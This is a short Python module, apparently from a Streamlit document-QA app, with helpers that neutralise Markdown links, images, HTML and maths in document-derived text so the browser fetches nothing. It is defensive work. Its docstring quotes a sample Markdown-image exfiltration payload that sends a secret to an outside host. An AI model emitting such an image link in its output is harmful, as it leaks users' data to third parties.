"""Document text on the page, inert: nothing a document says makes the browser fetch anything.

Streamlit renders Markdown (in st.markdown, captions, alerts, even button labels), and Markdown loads
images by itself: a passage quoting `![x](http://host/leak?q=secret)` would make the browser request
that URL the moment the answer or the source is shown. So every text that comes from a document, a file
name or a question goes through one of these before it reaches the page:

- `md_text(text)`: for Markdown contexts. It breaks what makes a link or an image (`](`, a `[ref]:`
  definition), raw HTML and autolinks (`<`) and maths (`$`), and keeps the rest as written, so "[1]"
  citation markers and ordinary punctuation read as before; a link from a document shows as text.
- `html_text(text)`: for our own HTML (the source viewer's highlighted passage): HTML-escaped, with
  Markdown punctuation as character references and line breaks as <br>, so neither the HTML nor the
  Markdown parser sees a tag, an image or the end of the HTML block.
"""

from __future__ import annotations

import re

_LINK = re.compile(r"\](?=[(:])")        # the "](" of [text](url) and ![alt](src), the "]:" of [ref]: url
_HTML = {ord("&"): "&amp;", ord("<"): "&lt;", ord(">"): "&gt;", ord('"'): "&quot;", ord("'"): "&#39;",
         **{ord(c): f"&#{ord(c)};" for c in "\\`*_[]()!$~"}}


def md_text(text: str) -> str:
    """`text` as Markdown that shows as written and never becomes an image, a link, HTML or maths."""
    text = text.replace("\\", "\\\\").replace("$", "\\$").replace("<", "&lt;")
    return _LINK.sub(r"\\]", text)


def html_text(text: str) -> str:
    """`text` as inert HTML: escaped, Markdown punctuation as references, newlines as <br>."""
    return text.translate(_HTML).replace("\r\n", "\n").replace("\r", "\n").replace("\n", "<br>")
